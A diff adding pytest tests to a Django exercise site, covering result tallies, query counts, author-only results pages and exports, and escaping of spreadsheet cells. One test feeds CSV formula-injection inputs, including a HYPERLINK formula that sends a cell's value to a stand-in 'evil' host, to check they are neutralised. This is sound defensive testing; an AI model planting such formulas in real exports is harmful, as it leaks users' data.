@@ -7,18 +7,35 @@ import io
 import json
 
 import pytest
+from django.contrib.auth import get_user_model
+from django.db import connection
+from django.test import Client
+from django.test.utils import CaptureQueriesContext
 
 from a09web.exercises.breaking import shortest
+from a09web.exercises.cells import safe
 from a09web.exercises.diagnosing import proof
 from a09web.exercises.exercise import ON_A_SANDBOX, named
-from a09web.exercises.models import Work
-from a09web.exercises.results import Row, distribution, results, to_csv, to_json
-from a09web.exercises.services import actor_of, begin, hand_in, note_refusal, sandbox_for, variant_for
+from a09web.exercises.models import StoredExercise, Work
+from a09web.exercises.reading import values_of
+from a09web.exercises.results import Row, distribution, is_solved, results, to_csv, to_json
+from a09web.exercises.services import (
+    actor_of,
+    begin,
+    exercise_of,
+    hand_in,
+    make_exercise,
+    note_refusal,
+    sandbox_for,
+    take_hint,
+    variant_for,
+)
 from a09web.sandbox.services import take_step
 from a09web.sandbox.tree import Tree
 from a09web.scenarios.address import decode
+from tests.sandbox.visiting import html, text
 
-from .working import starter
+from .working import Solver, starter
 
 pytestmark = pytest.mark.django_db
 
@@ -114,6 +131,111 @@ def test_a_diagnosis_is_counted_by_its_evidence() -> None:
     hand_in(work=work, exercise=mine, key="1", answer={"bug": named(mine.bugs), "steps": list(evidence.steps)})
     found = distribution([work])
     assert (found.shortest, found.fewest) == (2, 2)
+
+
+def test_what_is_only_partly_right_is_not_done() -> None:
+    named_only = worked("s1", "case-a", {"bug": "StaleCompletion"})
+    found = distribution([named_only])
+    assert (found.done, found.partly, found.shortest, found.solved) == (0, 1, None, ())
+    assert found.verdicts == (("named", 1),)
+    too_strong = worked("s1", "the-crowded-run", {"parts": ["part3"]})
+    assert too_strong.best == 0.3
+    assert (distribution([too_strong]).done, distribution([too_strong]).partly) == (0, 1)
+    needless = worked("s2", "the-unwelcome-result", {"parts": ["part1", "part2", "part3"]})
+    assert is_solved(needless.attempts.get()) == (needless.best >= 0.7)
+
+
+def test_the_shortest_solution_is_one_whatever_it_counts() -> None:
+    """Also if hints were taken before it."""
+    exercise = starter("back-from-the-dead")
+    work = worked("s1", exercise.key)
+    mine = variant_for("s1", exercise, work)
+    way = shortest(mine) or ()
+    hand_in(work=work, exercise=mine, key="1", answer={"steps": [*way[:2], "AdvanceCheckpoint", *way[2:]]})
+    for number in (1, 2, 3):
+        take_hint(work=work, exercise=mine, number=number)
+    hand_in(work=work, exercise=mine, key="2", answer={"steps": list(way)})
+    assert distribution([work]).shortest == 5
+
+
+def test_where_everybody_went_asks_no_more_when_more_went() -> None:
+    exercise = starter("two-hands-on-one-job")
+
+    def asked(number: int) -> int:
+        for _ in range(number):
+            stepped(worked(f"solver {Work.objects.count()}", exercise.key), "AdvanceCheckpoint")
+        with CaptureQueriesContext(connection) as seen:
+            distribution(Work.objects.all())
+        return len(seen)
+
+    assert asked(2) == asked(10) <= 6
+
+
+@pytest.mark.parametrize(
+    ("text", "made"),
+    [
+        (';=HYPERLINK("http://evil?"&A1)', ';\'=HYPERLINK("http://evil?"&A1)'),
+        ("a\n=1+1", "a =1+1"),
+        ("a,\r\n@SUM(1)", "a, '@SUM(1)"),
+        ("\uff1d1", "'\uff1d1"),
+        ("\uff0b1", "'\uff0b1"),
+        ("  -1", "  '-1"),
+        ("\t=1", "\t'=1"),
+        ("a\t=1", "a\t'=1"),
+        ("Claim(w1,r1), Complete(w1,r1,1)", "Claim(w1,r1), Complete(w1,r1,1)"),
+        ("brave-otter", "brave-otter"),
+    ],
+)
+def test_no_part_of_a_cell_begins_a_formula(text: str, made: str) -> None:
+    assert safe(text) == made
+    assert safe(-1) == -1
+
+
+# The pages of the author
+
+
+def made_by(client: Client) -> StoredExercise:
+    author = get_user_model().objects.create_user(f"author {StoredExercise.objects.count()}")
+    client.force_login(author)
+    return make_exercise(author=author, values=values_of(starter("busy-hands")))
+
+
+def test_an_author_sees_what_came_of_an_exercise_used_alone(client: Client) -> None:
+    stored = made_by(client)
+    results_page = f"/exercises/made/{stored.public_id}/results/"
+    assert "Nobody has begun it yet." in text(client.get(results_page))
+    student = Solver(Client(), stored.key)
+    student.hand_in(choice="none")
+    student.hand_in(choice="AtMostOneClaimer")
+    exercise = exercise_of(stored)
+    of_a_class = begin(solver="s.somebody", exercise=exercise)
+    hand_in(
+        work=of_a_class, exercise=variant_for("s.somebody", exercise, of_a_class), key="1", answer={"choice": "none"}
+    )
+    page = html(client.get(results_page))
+    assert [cell.text for cell in page.all("td")][:3] == ["50", "2", "0"]
+    assert [cell.text for cell in page.all("th")][-1] == "student 001"
+    owner = Work.objects.alone().get().solver
+    table = client.get(f"/exercises/made/{stored.public_id}/results.csv")
+    lines = list(csv.DictReader(io.StringIO(text(table).removeprefix("\ufeff"))))
+    assert [(line["solver"], line["score"], line["answer"]) for line in lines] == [
+        ("student 001", "0", "choice: none"), ("student 001", "50", "choice: AtMostOneClaimer")
+    ]  # fmt: skip
+    rows_of = json.loads(text(client.get(f"/exercises/made/{stored.public_id}/results.json")))
+    assert len(rows_of) == 2
+    assert owner not in text(table) + json.dumps(rows_of) + text(client.get(results_page))
+    assert results_page in text(client.get("/exercises/made/"))
+
+
+@pytest.mark.parametrize("end", ["results/", "results.csv", "results.json"])
+def test_nobody_else_sees_it(client: Client, end: str) -> None:
+    stored = made_by(client)
+    assert client.get(f"/exercises/made/{stored.public_id}/{end}").status_code == 200
+    assert client.get(f"/exercises/made/{stored.public_id}/results.exe").status_code == 404
+    assert Client().get(f"/exercises/made/{stored.public_id}/{end}").status_code == 302
+    other = Client()
+    made_by(other)
+    assert other.get(f"/exercises/made/{stored.public_id}/{end}").status_code == 404
 
 
 def test_nobody_went_anywhere() -> None:
